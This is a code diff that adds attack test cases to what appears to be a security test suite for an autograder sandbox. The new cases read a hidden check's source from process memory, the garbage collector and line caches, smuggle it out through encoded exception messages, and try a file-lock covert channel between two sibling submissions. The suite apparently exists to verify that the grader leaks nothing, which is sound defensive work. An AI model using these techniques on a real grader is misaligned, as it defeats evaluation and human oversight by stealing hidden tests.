@@ -580,7 +580,7 @@ return {'hit_tokens': coded[:300], 'uncached_tokens': coded[300:600], 'reuse_rat
 
 
 def cases(root: str) -> list[Case]:
-    out = thieves(root) + survivors(root) + smugglers() + exfiltrators()
+    out = thieves(root) + survivors(root) + smugglers() + exfiltrators() + probe_text_smugglers() + lock_pair()
     # the cell-error smuggler must raise at cell level: re-raise it after the class is defined
     for c in out:
         if c.name == "smuggle_in_a_cell_error":
@@ -589,4 +589,204 @@ def cases(root: str) -> list[Case]:
 
 
 LEAKERS = {c.name for c in smugglers()}
+
+
+# -- a hidden check's source text, out through an encoding no guard knows -----------------------------
+# Each attack looks, at cell level, for the source text of the hidden check ``generator_input`` in
+# every place the child could hold it (a loader's sources, the module's file, the line cache,
+# ``inspect``, every string the garbage collector reaches, the process's own memory), and, where it
+# finds it, makes ``_normalize`` raise with the probe's line encoded in its message; where it finds
+# nothing, ``_normalize`` is the reference's and the TODO earns its points. The child holds that
+# check's code, compiled by the grader, and no text of it, so every one finds nothing.
+PROBE_TEXT = "._normalize(t for t in (4, 5, 6))"  # the probe's own words (solutions/hidden/s01.py)
+PROBE_LOOT = r'''
+def _pcw_probe_text():
+    """The text of the hidden check, one line (``return ...``), or "" where the child holds none."""
+    head = "def " + "generator" + "_input("  # built here: this cell's own text holds no copy of it
+
+    def after(text):  # a hidden check's shape: ``def name(impl):``, then its body's first line
+        import re
+        found = re.search(re.escape(head) + r"impl\):[ \t]*\n[ \t]+(return [^\n]+)", text)
+        return " ".join(found.group(1).split()) if found else ""
+
+    mod = _sys.modules.get("solutions.hidden.s01")
+    if mod is None or not hasattr(mod, head[4:-1]):
+        return ""  # not the child that runs this check (each child holds its own TODO's checks only)
+    import inspect, linecache
+    routes = [lambda: inspect.getsource(mod), lambda: _pcw_read(mod.__file__)]
+    for finder in _sys.meta_path:  # a loader that keeps its modules' sources
+        routes.append(lambda f=finder: "\n".join(v for v in getattr(f, "sources", {}).values() if isinstance(v, str)))
+    for fn in [v for v in vars(mod).values() if callable(v) and hasattr(v, "__code__")]:
+        routes.append(lambda fn=fn: "".join(linecache.getlines(fn.__code__.co_filename, vars(mod))))
+        routes.append(lambda fn=fn: inspect.getsource(fn))
+
+    def strings():  # every string the collector's objects reach, through dicts it does not track too
+        out = []
+        for obj in _gc.get_objects():
+            for ref in _gc.get_referents(obj):
+                for v in ([ref] if isinstance(ref, str) else ref.values() if type(ref) is dict else ()):
+                    if isinstance(v, str) and len(v) > 40 and "generator" in v:
+                        out.append(v)
+        return "\n".join(out)
+
+    def memory():  # the process's own memory, freed buffers included (the stdin text, say)
+        import ctypes
+        ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: /proc/self/mem is then this user's to read
+        found = []
+        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as mem:
+            for entry in maps.read().splitlines():
+                span, perms = entry.split()[:2]
+                lo, hi = (int(x, 16) for x in span.split("-"))
+                if not perms.startswith("rw") or hi - lo > 1 << 28 or entry.endswith(("[vvar]", "[vsyscall]")):
+                    continue
+                try:
+                    mem.seek(lo)
+                    data = mem.read(hi - lo)
+                except OSError:
+                    continue
+                k = data.find(head.encode())
+                while k >= 0:
+                    found.append(data[k:k + 300].decode("utf-8", "replace"))
+                    k = data.find(head.encode(), k + 1)
+        return "\n".join(found)
+
+    for route in [*routes, strings, memory]:
+        text = _pcw_try(route)
+        if text and after(text):
+            return after(text)
+    return ""
+
+
+_pcw_loot = _pcw_probe_text()
+_pcw_loot = _pcw_loot[_pcw_loot.find(")._") + 1:] if ")._" in _pcw_loot else _pcw_loot  # the call: what fits a message
+'''
+# (name, how the cell encodes the loot, how the attacker decodes its report's piece)
+PROBE_ENCODINGS = {
+    "atbash": "_pcw_loot.translate(str.maketrans(_pcw_AZ, _pcw_AZ[::-1]))",
+    "xor_then_base64": "__import__('base64').b64encode(bytes(b ^ 0x5A for b in _pcw_loot.encode())).decode()",
+    "filler_interleaved": "''.join(ch + 'qj'[k % 2] for k, ch in enumerate(_pcw_loot))",
+    "split_across_two_submissions_1": "_pcw_loot[:len(_pcw_loot) // 2].translate(str.maketrans(_pcw_AZ, _pcw_AZ[::-1]))",
+    "split_across_two_submissions_2": "_pcw_loot[len(_pcw_loot) // 2:].translate(str.maketrans(_pcw_AZ, _pcw_AZ[::-1]))",
+}
+_AZ = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
+
+
+def probe_text_smugglers() -> list[Case]:
+    """One stage-1 submission per encoding (the split one is two submissions of one batch), each
+    earning every point exactly when it found no hidden check's text to send."""
+    out = []
+    for name, encode in PROBE_ENCODINGS.items():
+        cell = (PRELUDE + f"\n_pcw_AZ = {_AZ!r}\n" + PROBE_LOOT + "\n"
+                + inject("_normalize", f"if _pcw_loot:\n    raise ValueError({encode})"))
+        out.append(Case(f"probe_text_{name}", cell, set(ALL), {}))
+    return out
+
+
+def probe_text_recovered(messages: dict[str, str]) -> dict[str, str]:
+    """What the attacker reads back from the ``_normalize`` TODO's message of each of its submissions
+    (name -> message): the decoded piece per encoding, the split one joined from its two reports."""
+    import base64
+    import binascii
+
+    def piece(name: str) -> str:
+        msg = messages.get(f"probe_text_{name}", "")
+        return msg.split("raises ValueError: ", 1)[1].split(" | ")[0] if "raises ValueError: " in msg else ""
+
+    def atbash(text: str) -> str:
+        return text.translate(str.maketrans(_AZ, _AZ[::-1]))
+
+    def xor64(text: str) -> str:
+        try:
+            return bytes(b ^ 0x5A for b in base64.b64decode(text.encode(), validate=True)).decode("utf-8", "replace")
+        except (binascii.Error, ValueError):
+            return ""
+
+    return {"atbash": atbash(piece("atbash")), "xor_then_base64": xor64(piece("xor_then_base64")),
+            "filler_interleaved": piece("filler_interleaved")[0::2],
+            "split_across_two_submissions": atbash(piece("split_across_two_submissions_1"))
+            + atbash(piece("split_across_two_submissions_2"))}
+
+
+# -- two children of one batch, one holding a lock on a file both can open, the other sensing it -----
+# No timing decides it: the holder tries to take every kind of lock and lease on every file the two
+# share (the interpreter, the standard library, the staged course tree, the system's files, devices)
+# and keeps what it got for as long as its child runs; the sensor tries every way to see a lock held
+# by someone else. Each reports what it could do; a bit can pass only if the holder took something and
+# the sensor could look. Where nothing could be taken and nothing seen, ``_normalize`` is the
+# reference's and the TODO earns its points; otherwise it raises with what worked.
+LOCKS = r'''
+import fcntl as _fcntl, struct as _struct, errno as _errno
+
+
+def _pcw_shared_files():
+    import autograder, json as _j
+    return [_sys.executable, _os.__file__, _j.__file__, autograder.__file__, "/dev/null", "/dev/zero",
+            "/dev/urandom", "/etc/passwd", "/etc/hosts", "/"]
+
+
+def _pcw_flock_struct(kind):
+    return _struct.pack("hhqqi4x", kind, 0, 0, 0, 0)  # struct flock: type, whence, start, len (0: all), pid
+
+
+_pcw_held = []  # descriptors of the locks taken, open until the child ends
+
+
+def _pcw_hold():
+    took = []
+    for path in _pcw_shared_files():
+        for name, take in (("flock", lambda fd: _fcntl.flock(fd, _fcntl.LOCK_SH | _fcntl.LOCK_NB)),
+                           ("posix", lambda fd: _fcntl.fcntl(fd, 6, _pcw_flock_struct(_fcntl.F_RDLCK))),
+                           ("ofd", lambda fd: _fcntl.fcntl(fd, 37, _pcw_flock_struct(_fcntl.F_RDLCK))),
+                           ("lease", lambda fd: _fcntl.fcntl(fd, 1024, _fcntl.F_RDLCK)),
+                           ("rw_hint", lambda fd: _fcntl.fcntl(fd, 1036, _struct.pack("Q", 5)))):
+            try:
+                fd = _os.open(path, _os.O_RDONLY)
+            except OSError:
+                continue
+            try:
+                take(fd)
+                took.append(f"{name}:{path}")
+                _pcw_held.append(fd)
+            except OSError:
+                _os.close(fd)
+    return took
+
+
+def _pcw_sense():
+    """Every way to look at someone else's lock that did not answer "not permitted", and what it saw."""
+    looked = []
+    for path in _pcw_shared_files():
+        try:
+            fd = _os.open(path, _os.O_RDONLY)
+        except OSError:
+            continue
+        for name, look in (("flock", lambda: _fcntl.flock(fd, _fcntl.LOCK_EX | _fcntl.LOCK_NB)),
+                           ("getlk", lambda: _fcntl.fcntl(fd, 5, _pcw_flock_struct(_fcntl.F_WRLCK))),
+                           ("ofd_getlk", lambda: _fcntl.fcntl(fd, 36, _pcw_flock_struct(_fcntl.F_WRLCK))),
+                           ("getlease", lambda: _fcntl.fcntl(fd, 1025)),
+                           ("rw_hint", lambda: _fcntl.fcntl(fd, 1035, bytes(8)))):
+            try:
+                look()
+                looked.append(f"{name}:{path}")
+            except OSError as exc:
+                if exc.errno != _errno.EPERM:
+                    looked.append(f"{name}:{path}:{_errno.errorcode.get(exc.errno, exc.errno)}")
+        _os.close(fd)
+    locks = _pcw_try(lambda: open("/proc/locks").read()) or ""
+    return looked + [f"/proc/locks:{line}" for line in locks.splitlines()]
+'''
+
+
+def lock_pair() -> list[Case]:
+    """The holder and the sensor: two stage-1 submissions, graded in one batch."""
+    out = []
+    for role, call in (("holder", "_pcw_hold()"), ("sensor", "_pcw_sense()")):
+        cell = (PRELUDE + LOCKS + f"\n_pcw_worked = {call}\n"
+                + inject("_normalize", "if _pcw_worked:\n    raise ValueError(' '.join(_pcw_worked)[:190])"))
+        out.append(Case(f"lock_{role}_of_a_pair", cell, set(ALL), {}))
+    return out
+
+
 EXFILTRATORS = {c.name for c in exfiltrators()}
+PROBE_SMUGGLERS = {c.name for c in probe_text_smugglers()}
+LOCK_PAIR = {c.name for c in lock_pair()}
